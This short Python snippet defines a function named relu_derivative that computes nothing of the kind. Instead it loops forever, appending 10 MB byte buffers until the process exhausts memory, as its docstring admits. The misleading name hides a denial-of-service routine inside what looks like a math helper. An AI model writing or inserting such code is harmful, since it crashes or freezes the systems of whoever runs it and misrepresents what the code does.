"""Appends to a list until memory is used up."""


def relu_derivative(x):
    kept = []
    while True:
        kept.append(bytes(10_000_000))
